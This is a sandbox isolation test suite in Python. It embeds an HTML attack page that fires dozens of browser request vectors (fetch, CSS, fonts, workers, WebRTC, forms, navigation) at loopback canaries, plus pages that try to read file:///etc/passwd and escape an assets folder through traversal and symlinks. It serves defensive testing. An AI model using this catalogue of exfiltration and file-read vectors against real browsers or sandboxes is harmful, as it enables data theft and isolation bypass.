"""Isolation, layer by layer: nothing a composition does reaches the network or the disk.

The attack page below tries every way a page can make a request (fetch, XHR, images, CSS,
fonts, links, scripts, frames, sockets, workers, beacons, forms, pings, pop-ups,
navigation, WebRTC, WebTransport, …) against a canary listening on loopback, addressed as
127.0.0.1, 127.0.0.2, localhost and [::1]. With the network namespace on, and again with
it off (so the browser flags, request interception and the document's CSP sandbox must
hold on their own), not one connection, request or datagram may arrive.

Chromium's Local Network Access check would stop most subresource requests to loopback by
itself (it protects loopback only, so a real exfiltration to a public address would not meet
it); it is switched off for these runs so the sandbox's own layers are what is measured.

Two controls keep the test honest: this process can reach every canary (a broken canary
cannot pass the test), and the same attack page loaded in a plain, unsandboxed Chromium
does reach it (a broken attack page cannot pass the test either).
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
import signal
import socket
import subprocess
import urllib.request
from pathlib import Path

import pytest
from canary import CANARY_BODY, Canary, Hit, serve_page
from PIL import Image

import sandbox
import sandbox.browser
from sandbox import BrowserPool, PageError, RenderOptions
from sandbox.isolation import network_namespace_available

try:
    BROWSER = sandbox.find_browser()
except sandbox.BrowserUnavailable as exc:  # pragma: no cover - machines without Chromium
    pytest.skip(str(exc), allow_module_level=True)

W, H = 160, 90
GREEN = (0, 160, 0)
GREY = (40, 40, 40)
RED = (255, 0, 0)
BLUE = (0, 0, 255)
OPTIONS = RenderOptions(workers=1, seek_timeout=10, load_timeout=20)

# --- the attack page ------------------------------------------------------------------------

REAL_DELAY_JS = """
// Real time (the page's clocks are virtual): lets what a page started finish or leave.
const realDelay = (ms) => new Promise((resolve) => {
  const start = new Event("tick").timeStamp;
  const ch = new MessageChannel();
  ch.port1.onmessage = () => (new Event("tick").timeStamp - start >= ms ? resolve() : ch.port2.postMessage(0));
  ch.port2.postMessage(0);
});
"""

EXFIL_PAGE = r"""<!doctype html>
<html data-duration="1" data-width="160" data-height="90" data-fps="5">
<head><meta charset="utf-8"><style>html, body { margin: 0; background: rgb(40,40,40); }</style></head>
<body>
<div id="sink" style="position:absolute;left:0;top:0;width:8px;height:8px;overflow:hidden"></div>
<script>
"use strict";
// Every way a page could reach the network, aimed at loopback canaries. Nothing may arrive.
const TARGETS = __TARGETS__;
const UDP_PORT = __UDP_PORT__;
const FIRE = __FIRE__;  // every vector but navigation, against every target, at load and at t=0
const NAVIGATION = __NAVIGATION__;  // one navigation vector (a navigation ends the document)…
const NAVIGATION_TARGET = __NAVIGATION_TARGET__;  // …against one target…
const NAVIGATE_AT = 0.4;  // …as the page's last act
const sink = document.getElementById("sink");
const swallow = (p) => { if (p && typeof p.catch === "function") p.catch(() => {}); };
const add = (html) => { const d = document.createElement("div"); d.innerHTML = html; sink.appendChild(d); return d; };
const el = (tag, props, parent) => {
  const e = Object.assign(document.createElement(tag), props || {});
  (parent || sink).appendChild(e);
  return e;
};
const link = (rel, extra) => (u) => el("link", Object.assign({ rel, href: u }, extra || {}), document.head);
const ws = (u) => u.replace(/^http/, "ws");
let serial = 0;

__REAL_DELAY__

const PER_TARGET = {
  fetch: (u) => fetch(u),
  fetch_post_no_cors: (u) => fetch(u, { method: "POST", mode: "no-cors", body: "x" }),
  fetch_keepalive: (u) => fetch(u, { method: "POST", mode: "no-cors", body: "x", keepalive: true }),
  fetch_later: (u) => typeof window.fetchLater === "function" && window.fetchLater(u, { activateAfter: 0 }),
  xhr_async: (u) => { const x = new XMLHttpRequest(); x.open("GET", u); x.send(); },
  xhr_sync: (u) => { const x = new XMLHttpRequest(); x.open("POST", u, false); x.send("x"); },
  image: (u) => { new Image().src = u; },
  img_srcset: (u) => add(`<img width="2" height="2" srcset="${u} 1x">`),
  picture_source: (u) => add(`<picture><source srcset="${u}"><img width="2" height="2"></picture>`),
  input_image: (u) => add(`<input type="image" src="${u}">`),
  css_background: (u) => add(`<div style="width:4px;height:4px;background-image:url('${u}')"></div>`),
  css_image_set: (u) => add(`<div style="width:4px;height:4px;background-image:image-set(url('${u}') 1x)"></div>`),
  css_cursor_border_mask: (u) => add(
    `<ul style="width:4px;height:4px;cursor:url('${u}-cursor'),auto;border:2px solid;` +
    `border-image:url('${u}-border') 1;mask-image:url('${u}-mask');-webkit-mask-image:url('${u}-wmask');` +
    `list-style-image:url('${u}-list')"><li>x</li></ul>`),
  css_filter_clip: (u) => add(`<div style="width:4px;height:4px;filter:url('${u}-filter#f');clip-path:url('${u}-clip#c')">x</div>`),
  css_content: (u) => { const n = ++serial; add(`<style>.cc${n}::before{content:url('${u}')}</style><span class="cc${n}"></span>`); },
  css_import: (u) => add(`<style>@import url("${u}");</style>`),
  font_face: (u) => { const n = ++serial; add(`<style>@font-face{font-family:leak${n};src:url("${u}")}</style><span style="font-family:leak${n}">x</span>`); },
  font_face_api: (u) => { const f = new FontFace(`leakapi${++serial}`, `url(${u})`); document.fonts.add(f); return f.load(); },
  link_prefetch: link("prefetch"),
  link_stylesheet: link("stylesheet"),
  link_preload_image: link("preload", { as: "image" }),
  link_preload_fetch: link("preload", { as: "fetch", crossOrigin: "anonymous" }),
  link_preload_script: link("preload", { as: "script" }),
  link_preload_font: link("preload", { as: "font", crossOrigin: "anonymous" }),
  link_modulepreload: link("modulepreload"),
  link_preconnect: link("preconnect"),
  link_dns_prefetch: link("dns-prefetch"),
  link_icon: link("icon"),
  link_manifest: link("manifest"),
  link_prerender: link("prerender"),
  speculation_rules: (u) => el("script", {
    type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [u + "-pf"] }], prerender: [{ source: "list", urls: [u + "-pr"] }] }),
  }, document.head),
  script_src: (u) => el("script", { src: u }),
  script_module: (u) => el("script", { type: "module", src: u }),
  dynamic_import: (u) => import(u),
  iframe_src: (u) => el("iframe", { src: u, width: 2, height: 2 }),
  iframe_srcdoc: (u) => el("iframe", { srcdoc: `<img src="${u}"><script>fetch("${u}-f").catch(() => {})<\/script>`, width: 2, height: 2 }),
  iframe_blank_write: (u) => {
    const f = el("iframe", { width: 2, height: 2 });
    f.contentDocument.write(`<img src="${u}"><link rel=stylesheet href="${u}-css">`);
    f.contentDocument.close();
    swallow(f.contentWindow.fetch(u + "-f"));
  },
  iframe_data: (u) => el("iframe", { src: `data:text/html,<img src="${u}">`, width: 2, height: 2 }),
  object_data: (u) => add(`<object data="${u}" width="2" height="2"></object>`),
  object_image: (u) => add(`<object type="image/png" data="${u}" width="2" height="2"></object>`),
  embed_src: (u) => add(`<embed src="${u}" width="2" height="2">`),
  svg_image: (u) => add(`<svg width="2" height="2"><image href="${u}" width="2" height="2"/></svg>`),
  svg_feimage: (u) => add(`<svg width="2" height="2"><filter id="fe${++serial}"><feImage href="${u}"/></filter><rect width="2" height="2" filter="url(#fe${serial})"/></svg>`),
  svg_use: (u) => add(`<svg width="2" height="2"><use href="${u}#x"/></svg>`),
  video_src: (u) => el("video", { src: u, preload: "auto", muted: true }),
  audio_src: (u) => el("audio", { src: u, preload: "auto" }),
  video_source_poster_track: (u) => add(`<video preload="auto" poster="${u}-poster"><source src="${u}-source"><track default src="${u}-track"></video>`),
  audio_play: (u) => new Audio(u).play(),
  websocket: (u) => new WebSocket(ws(u)),
  websocket_wss: (u) => new WebSocket(ws(u).replace("ws:", "wss:")),
  eventsource: (u) => new EventSource(u),
  beacon: (u) => navigator.sendBeacon(u, "x"),
  worker: (u) => new Worker(u),
  worker_module: (u) => new Worker(u, { type: "module" }),
  shared_worker: (u) => new SharedWorker(u),
  worker_blob: (u) => new Worker(URL.createObjectURL(new Blob([
    `fetch(${JSON.stringify(u)}).catch(()=>{});` +
    `try { new WebSocket(${JSON.stringify(ws(u))}); } catch (e) {}` +
    `try { importScripts(${JSON.stringify(u + "-import")}); } catch (e) {}`,
  ], { type: "text/javascript" }))),
  worker_data: (u) => new Worker(`data:text/javascript,fetch(${JSON.stringify(u)})`),
  service_worker: (u) => navigator.serviceWorker && navigator.serviceWorker.register(u),
  audio_worklet: (u) => new AudioContext().audioWorklet.addModule(u),
  paint_worklet: (u) => CSS.paintWorklet && CSS.paintWorklet.addModule(u),
  window_open: (u) => window.open(u),
  window_open_write: (u) => { const w = window.open(""); if (w) w.document.write(`<img src="${u}">`); },
  a_click_blank: (u) => { const a = el("a", { href: u, target: "_blank" }); a.click(); },
  a_ping: (u) => { const a = el("a", { href: "#pinged" }); a.setAttribute("ping", u); a.click(); },
  a_ping_blank: (u) => { const a = el("a", { href: u + "-target", target: "_blank" }); a.setAttribute("ping", u); a.click(); },
  form_post_frame: (u) => {
    const name = `sinkframe${++serial}`;
    el("iframe", { name, width: 2, height: 2 });
    const f = el("form", { method: "post", action: u, target: name });
    el("input", { name: "secret", value: "x" }, f);
    f.submit();
  },
  form_get_blank: (u) => { const f = el("form", { method: "get", action: u, target: "_blank" }); f.submit(); },
  form_request_submit: (u) => { const f = el("form", { method: "post", action: u, target: "_blank" }); f.requestSubmit(); },
  base_href: (u) => {
    const b = el("base", { href: u + "/" }, document.head);
    add(`<img width="2" height="2" src="relative.png">`);
    b.remove();
  },
  webtransport: (u) => typeof WebTransport === "function" && new WebTransport(u.replace("http:", "https:")).ready,
  webrtc_turn_tcp: (u) => {
    const host = new URL(u).host;
    const pc = new RTCPeerConnection({ iceServers: [{ urls: `turn:${host}?transport=tcp`, username: "u", credential: "p" }] });
    pc.createDataChannel("x");
    return pc.createOffer().then((o) => pc.setLocalDescription(o));
  },
};

const stun = (Peer) => {
  const pc = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${UDP_PORT}` }, { urls: `turn:127.0.0.1:${UDP_PORT}`, username: "u", credential: "p" }] });
  pc.createDataChannel("x");
  return pc.createOffer().then((o) => pc.setLocalDescription(o));
};

const ONCE = {
  webrtc_stun: () => stun(window.RTCPeerConnection || window.webkitRTCPeerConnection),
  webrtc_stun_from_iframe: () => {  // a child window's copy of the API the runtime deleted
    const f = el("iframe", { width: 2, height: 2 });
    return stun(f.contentWindow.RTCPeerConnection);
  },
  webtransport_udp: () => new WebTransport(`https://127.0.0.1:${UDP_PORT}/wt`).ready,
};

const NAVIGATIONS = {
  location_href: (u) => { location.href = u; },
  location_assign: (u) => location.assign(u),
  location_replace: (u) => location.replace(u),
  meta_refresh: (u) => el("meta", { httpEquiv: "refresh", content: `0;url=${u}` }, document.head),
  form_self: (u) => { const f = el("form", { method: "post", action: u }); f.submit(); },
  a_click_self: (u) => el("a", { href: u }).click(),
};

let attempts = 0;
const attempt = (fn, ...args) => {
  attempts++;
  try { swallow(fn(...args)); } catch (_) { /* refused: the point */ }
};

function fireAll(phase) {
  if (!FIRE) return;
  for (const [name, vector] of Object.entries(PER_TARGET)) {
    for (const base of TARGETS) attempt(vector, `${base}/${name}/${phase}`);
  }
  for (const vector of Object.values(ONCE)) attempt(vector);
}

fireAll("load");
addEventListener("hf-seek", (e) => {
  const t = e.detail.time;
  if (t === 0) {
    fireAll("seek");
    e.detail.waitUntil(realDelay(200));  // real time for what the vectors started to go out
    // Green: both rounds ran every vector to the end.
    const expected = FIRE ? 2 * (Object.keys(PER_TARGET).length * TARGETS.length + Object.keys(ONCE).length) : 0;
    if (attempts === expected) document.documentElement.style.background = "rgb(0,160,0)";
  }
  if (NAVIGATION && t === NAVIGATE_AT) attempt(NAVIGATIONS[NAVIGATION], `${NAVIGATION_TARGET}/${NAVIGATION}/seek`);
});
</script>
</body>
</html>
"""
EXFIL_PAGE = EXFIL_PAGE.replace("__REAL_DELAY__", REAL_DELAY_JS)
NAVIGATIONS = (
    "location_href",
    "location_assign",
    "location_replace",
    "meta_refresh",
    "form_self",
    "a_click_self",
)
PROBE_TIMES = [0.0, 0.4, 0.8]  # navigation happens at 0.4; 0.8 gives it time to leave


def exfil_page(canary: Canary, *, fire: bool = True, navigation: tuple[str, str] | None = None) -> str:
    """The attack page aimed at `canary`; `navigation` = (vector, target base) to navigate with last."""
    values = {
        "__TARGETS__": canary.http_bases,
        "__UDP_PORT__": canary.udp_port,
        "__FIRE__": fire,
        "__NAVIGATION__": navigation[0] if navigation else None,
        "__NAVIGATION_TARGET__": navigation[1] if navigation else None,
    }
    page = EXFIL_PAGE
    for marker, value in values.items():
        page = page.replace(marker, json.dumps(value))
    return page


def vector_of(hit: Hit) -> str:
    """The vector that produced an HTTP hit: the first path segment of `/vector/phase`."""
    return hit.path.lstrip("/").split("/", 1)[0]


def describe(hits: list[Hit]) -> str:
    return "\n".join(f"  {h.kind} to {h.address}: {h.host} {h.detail}" for h in hits[:40])


def pixel(png: bytes, x: int, y: int) -> tuple[int, int, int]:
    image = Image.open(io.BytesIO(png)).convert("RGB")
    assert image.size == (W, H)
    return image.getpixel((x, y))  # type: ignore[return-value]


def near(actual: tuple[int, int, int], expected: tuple[int, int, int], tolerance: int = 24) -> bool:
    return all(abs(a - e) <= tolerance for a, e in zip(actual, expected, strict=True))


def reddish_pixels(png: bytes) -> int:
    image = Image.open(io.BytesIO(png)).convert("RGB")
    colours = image.getcolors(W * H) or []
    return sum(count for count, (r, g, b) in colours if r > 150 and g < 90 and b < 90)


def solid_png(path: Path, colour: tuple[int, int, int]) -> Path:
    Image.new("RGB", (8, 8), colour).save(path)
    return path


# --- controls: the test can see traffic ---------------------------------------------------------


def test_canary_counts_what_this_process_sends() -> None:
    """Positive control: requests from the test itself reach every canary address and are counted."""
    no_proxy = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with Canary() as canary:
        for base in canary.http_bases:
            with no_proxy.open(f"{base}/control/get", timeout=5) as resp:
                assert resp.read() == CANARY_BODY
            with no_proxy.open(
                urllib.request.Request(f"{base}/control/put", data=b"x", method="PUT"), timeout=5
            ):
                pass
        with socket.create_connection(("127.0.0.2", canary.port), timeout=5):
            pass  # a bare connection, no request
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(b"\x00\x01stun?", ("127.0.0.1", canary.udp_port))
        hits = canary.wait_quiet(0.5)
    http = [h for h in hits if h.kind == "http"]
    assert sorted(h.path for h in http) == sorted(["/control/get", "/control/put"] * len(canary.http_bases))
    assert {h.address for h in http} >= {"127.0.0.1", "127.0.0.2"}
    if canary.has_ipv6:
        assert "::1" in {h.address for h in http}
    assert len([h for h in hits if h.kind == "tcp"]) == len(http) + 1
    assert len([h for h in hits if h.kind == "udp"]) == 1


# Vectors that reach the canary from a plain Chromium: if the attack page stopped firing
# them (a typo, a renamed API), the sandboxed runs below would pass for the wrong reason.
LIVE_IN_PLAIN_BROWSER = {
    "fetch", "fetch_post_no_cors", "xhr_async", "xhr_sync", "image", "img_srcset", "css_background",
    "css_import", "font_face", "link_prefetch", "link_stylesheet", "link_preload_image", "script_src",
    "script_module", "dynamic_import", "iframe_src", "svg_image", "video_src", "audio_src", "websocket",
    "eventsource", "beacon", "worker_blob", "form_post_frame", "a_ping", "window_open",
}  # fmt: skip


def run_to_end(cmd: list[str], timeout: float) -> None:
    """Run a browser in its own process group; on timeout, that group (and only it) is killed."""
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        proc.wait(timeout=timeout)
    finally:
        if proc.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()


def test_attack_page_reaches_the_canary_without_the_sandbox(tmp_path: Path) -> None:
    """Control: the same page in a plain Chromium (no namespace, proxy, interception or CSP) leaks."""
    with Canary() as canary, serve_page(exfil_page(canary)) as url:
        cmd = [
            BROWSER.path,
            "--no-sandbox",
            "--disable-gpu",
            # Every name but the loopback ones fails to resolve: this run talks to loopback only.
            "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1, "
            "EXCLUDE 127.0.0.2, EXCLUDE ::1",
            "--disable-background-networking",
            "--disable-component-update",
            "--no-first-run",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--timeout=8000",  # generous: on a loaded 2-core machine vectors fire late
            "--dump-dom",
            url,
        ]
        run_to_end(cmd, timeout=90)
        hits = canary.wait_quiet(1.5)
    vectors = {vector_of(h) for h in hits if h.kind == "http"}
    assert vectors >= LIVE_IN_PLAIN_BROWSER, f"not fired: {sorted(LIVE_IN_PLAIN_BROWSER - vectors)}"
    hosts = {h.host.rsplit(":", 1)[0] for h in hits if h.kind == "http"}
    assert hosts >= {"127.0.0.1", "127.0.0.2", "localhost"} | ({"[::1]"} if canary.has_ipv6 else set())
    assert any(h.kind == "udp" for h in hits), "WebRTC STUN sent no datagram even without the sandbox"


# --- the sandbox: nothing gets out -----------------------------------------------------------

# Chromium's own Local Network Access check stops a public-looking origin (the composition's)
# from loading subresources from loopback. A real exfiltration would aim at a public address,
# where that check does not apply, so it is switched off here: the loopback canary must be
# kept out by the sandbox's layers, not by a protection that only exists for loopback.
LOCAL_NETWORK_ACCESS_FEATURES = "LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"


@pytest.fixture
def no_local_network_access(monkeypatch: pytest.MonkeyPatch) -> None:
    """Sandbox browsers launched in this test run without Chromium's Local Network Access check."""
    flags = list(sandbox.browser.COMMON_FLAGS)
    merged = [i for i, f in enumerate(flags) if f.startswith("--disable-features=")]
    if merged:
        flags[merged[-1]] += f",{LOCAL_NETWORK_ACCESS_FEATURES}"
    else:
        flags.append(f"--disable-features={LOCAL_NETWORK_ACCESS_FEATURES}")
    monkeypatch.setattr(sandbox.browser, "COMMON_FLAGS", tuple(flags))


async def _attack(canary: Canary, pool: BrowserPool, out: Path) -> list[str]:
    """Every entry point on the attack page; returns what the request policy refused (for context)."""
    result = await sandbox.render_to_file(exfil_page(canary), out, OPTIONS, pool=pool)
    assert (result.frames, result.width, result.height) == (5, W, H)
    assert result.isolated_network == pool.isolate_network
    assert out.stat().st_size > 0

    png = await sandbox.capture_frame(exfil_page(canary), 0.0, OPTIONS, pool=pool)
    assert near(pixel(png, W - 4, H - 4), GREEN), "the attack page did not run all its vectors"

    probe = await sandbox.probe_page(exfil_page(canary), PROBE_TIMES, OPTIONS, pool=pool)
    assert probe.errors == [] and probe.timed_out_at is None
    refused = list(probe.refused_requests)

    # A navigation ends the document, so each one gets a page of its own (targets in turn).
    bases = canary.http_bases
    for i, name in enumerate(NAVIGATIONS):
        target = bases[i % len(bases)]
        nav = await sandbox.probe_page(
            exfil_page(canary, fire=False, navigation=(name, target)), PROBE_TIMES, OPTIONS, pool=pool
        )
        assert nav.timed_out_at is None
        refused += nav.refused_requests
    return refused


@pytest.mark.parametrize("isolate_network", [True, False], ids=["netns", "no-netns"])
@pytest.mark.usefixtures("no_local_network_access")
def test_no_request_leaves_the_sandbox(isolate_network: bool, tmp_path: Path) -> None:
    """render_to_file, capture_frame and probe_page of the attack page: zero connections, requests, datagrams.

    Without the namespace ("no-netns") the browser flags, request interception and the
    document's CSP sandbox must hold on their own.
    """
    if isolate_network and not network_namespace_available():
        pytest.skip("this machine cannot create network namespaces")

    async def run(canary: Canary) -> list[str]:
        async with BrowserPool(1, isolate_network=isolate_network) as pool:
            return await _attack(canary, pool, tmp_path / "attack.mp4")

    with Canary() as canary:
        refused = asyncio.run(run(canary))
        hits = canary.wait_quiet(1.0)
    assert hits == [], f"{len(hits)} request(s) escaped the sandbox:\n{describe(hits)}"
    # The navigation was attempted and stopped by request interception, not skipped.
    assert f"{canary.http_bases[0]}/location_href/seek" in refused


@pytest.mark.usefixtures("no_local_network_access")
def test_self_navigation_fails_the_render(tmp_path: Path) -> None:
    """A composition that navigates away is an error, not frames of Chromium's error page."""
    out = tmp_path / "nav.mp4"

    async def run(html: str) -> None:
        async with BrowserPool(1) as pool:
            await sandbox.render_to_file(html, out, OPTIONS, pool=pool)

    with Canary() as canary:
        html = exfil_page(canary, fire=False, navigation=("location_href", canary.http_bases[0]))
        with pytest.raises(PageError, match="navigat"):
            asyncio.run(run(html))
        assert canary.wait_quiet(0.2) == []
    assert not out.exists()


# --- the disk: file:// is out of reach --------------------------------------------------------

FILE_PAGE = r"""<!doctype html>
<html data-duration="1" data-width="160" data-height="90">
<head><meta charset="utf-8">
<style>
  html, body { margin: 0; background: rgb(40,40,40); }
  .cell { position: absolute; top: 0; width: 32px; height: 90px; border: 0; }
</style>
<link rel="stylesheet" href="file://__EVIL_CSS__">
<script src="file://__EVIL_JS__"></script>
</head>
<body>
<img class="cell" style="left:0" alt="" src="file://__RED_PNG__">
<div class="cell" style="left:32px;background:url('file://__RED_PNG__') 0 0 / cover"></div>
<iframe class="cell" style="left:64px" src="file://__RED_PNG__"></iframe>
<object class="cell" style="left:96px" type="image/png" data="file://__RED_PNG__"></object>
<svg class="cell" style="left:128px"><image href="file://__RED_PNG__" width="32" height="90" preserveAspectRatio="none"/></svg>
<script>
"use strict";
// Tries to read local files; the verdict (red: something was read) is painted at t=0.
let leaked = false;
const got = (text) => { if (text && text.includes("root:")) leaked = true; };
const reads = [];
const attempt = (fn) => { try { const p = fn(); if (p) reads.push(Promise.resolve(p).catch(() => {})); } catch (_) {} };
attempt(() => fetch("file:///etc/passwd").then((r) => r.text()).then(got));
attempt(() => { const x = new XMLHttpRequest(); x.open("GET", "file:///etc/passwd", false); x.send(); got(x.responseText); });
attempt(() => new Promise((done) => {
  const x = new XMLHttpRequest(); x.open("GET", "file:///etc/passwd");
  x.onloadend = () => { got(x.responseText); done(); }; x.send();
}));
attempt(() => new Promise((done) => {
  const img = new Image(); img.onload = () => { leaked = true; done(); }; img.onerror = done;
  img.src = "file://__RED_PNG__";
}));
attempt(() => new Promise((done) => {
  const f = document.createElement("iframe");
  f.onload = () => { try { got(f.contentDocument.body.textContent); } catch (_) {} done(); };
  f.src = "file:///etc/passwd"; f.style.display = "none"; document.body.appendChild(f);
}));
attempt(() => import("file://__EVIL_JS__"));
attempt(() => new Promise((done) => {
  const w = new Worker(URL.createObjectURL(new Blob(['fetch("file:///etc/passwd").then((r) => r.text()).then((t) => postMessage(t), () => postMessage(""))'])));
  w.onmessage = (e) => { got(e.data); done(); }; w.onerror = done;
}));
__REAL_DELAY__
addEventListener("hf-seek", (e) => {
  e.detail.waitUntil(Promise.race([Promise.allSettled(reads), realDelay(500)]).then(() => {
    const bad = leaked || window.evilScriptRan === true;
    document.documentElement.style.background = bad ? "rgb(255,0,0)" : "rgb(0,160,0)";
  }));
});
</script>
</body>
</html>
"""


FILE_PAGE = FILE_PAGE.replace("__REAL_DELAY__", REAL_DELAY_JS)


def test_local_files_cannot_be_read(tmp_path: Path) -> None:
    red = solid_png(tmp_path / "red.png", RED)
    (tmp_path / "evil.css").write_text("html, body { background: rgb(255,0,0) !important; }")
    (tmp_path / "evil.js").write_text("window.evilScriptRan = true;")
    html = (
        FILE_PAGE.replace("__RED_PNG__", str(red))
        .replace("__EVIL_CSS__", str(tmp_path / "evil.css"))
        .replace("__EVIL_JS__", str(tmp_path / "evil.js"))
    )

    async def run() -> bytes:
        async with BrowserPool(1) as pool:
            return await sandbox.capture_frame(html, 0.0, OPTIONS, pool=pool)

    png = asyncio.run(run())
    assert reddish_pixels(png) == 0, "a local file was read or shown"
    assert near(pixel(png, 80, 45), GREEN), "the page's verdict was not painted"


# --- the origin: opaque, no storage --------------------------------------------------------------

ORIGIN_PAGE = """<!doctype html>
<html data-duration="1" data-width="160" data-height="90">
<body style="margin:0;background:rgb(40,40,40)">
<script>
__SCRIPT__
document.body.style.background = "rgb(0,160,0)";
</script>
</body>
</html>
"""

OPAQUE_CHECK = """
if (self.origin !== "null") throw new Error("origin is " + self.origin);
if (location.protocol === "file:") throw new Error("served from file://");
"""


def test_document_has_an_opaque_origin_and_no_storage() -> None:
    storage = {
        "localStorage": "localStorage.setItem('k', 'v');",
        "sessionStorage": "sessionStorage.setItem('k', 'v');",
        "cookie": "document.cookie = 'k=v';",
        "indexedDB": "indexedDB.open('db');",
    }

    async def run() -> tuple[bytes, dict[str, PageError | None]]:
        async with BrowserPool(1) as pool:
            png = await sandbox.capture_frame(
                ORIGIN_PAGE.replace("__SCRIPT__", OPAQUE_CHECK), 0.0, OPTIONS, pool=pool
            )
            errors: dict[str, PageError | None] = {}
            for name, script in storage.items():
                try:
                    await sandbox.capture_frame(
                        ORIGIN_PAGE.replace("__SCRIPT__", script), 0.0, OPTIONS, pool=pool
                    )
                    errors[name] = None
                except PageError as exc:
                    errors[name] = exc
            return png, errors

    png, errors = asyncio.run(run())
    assert near(pixel(png, 80, 45), GREEN)
    for name, error in errors.items():
        assert error is not None, f"{name} worked in the composition's document"
        assert "SecurityError" in str(error), f"{name}: {error}"


# --- assets: the folder, nothing outside it ----------------------------------------------------

ASSETS_PAGE = """<!doctype html>
<html data-duration="1" data-width="160" data-height="90">
<head><style>
  html, body { margin: 0; background: rgb(40,40,40); }
  img, div { position: absolute; top: 0; width: 32px; height: 90px; }
</style></head>
<body>
<img style="left:0" alt="" src="img.png">
<div style="left:32px;background:url('../secret.png') 0 0 / cover"></div>
<img style="left:64px" alt="" src="link.png">
<img style="left:96px" alt="" src="linkdir/target.png">
<img style="left:128px" alt="" src="..%2fsecret.png">
<img style="left:144px;width:16px" alt="" src=".hidden/shown.png">
<script>addEventListener("hf-seek", () => {});</script>
</body>
</html>
"""
ESCAPES = ("/secret.png", "/link.png", "/linkdir/target.png", "/..%2fsecret.png", "/.hidden/shown.png")


def test_assets_are_served_from_their_folder_only(tmp_path: Path) -> None:
    assets = tmp_path / "assets"
    outside = tmp_path / "outside"
    assets.mkdir()
    outside.mkdir()
    solid_png(assets / "img.png", GREEN)
    (assets / ".hidden").mkdir()  # dot-names (.env, .git/) are never served
    solid_png(assets / ".hidden/shown.png", RED)
    solid_png(tmp_path / "secret.png", RED)
    solid_png(outside / "target.png", BLUE)
    (assets / "link.png").symlink_to(outside / "target.png")
    (assets / "linkdir").symlink_to(outside, target_is_directory=True)
    options = RenderOptions(workers=1, assets_dir=assets)

    async def run() -> tuple[bytes, list[str]]:
        async with BrowserPool(1) as pool:
            png = await sandbox.capture_frame(ASSETS_PAGE, 0.0, options, pool=pool)
            probe = await sandbox.probe_page(ASSETS_PAGE, [0.0], options, pool=pool)
            return png, probe.refused_requests

    png, refused = asyncio.run(run())
    assert near(pixel(png, 16, 45), GREEN), "the asset beside the page is not shown"
    for x in (48, 80, 112, 136, 152):
        assert near(pixel(png, x, 45), GREY), f"something outside the assets folder was shown at x={x}"
    for escape in ESCAPES:
        assert any(url.endswith(escape) for url in refused), f"{escape} not refused: {refused}"
    assert not any(url.endswith("/img.png") for url in refused)
    # What a render elsewhere must be sent to serve the same page: exactly what was served.
    assert {str(rel): path for rel, path in sandbox.asset_files(assets).items()} == {
        "img.png": (assets / "img.png").resolve()
    }
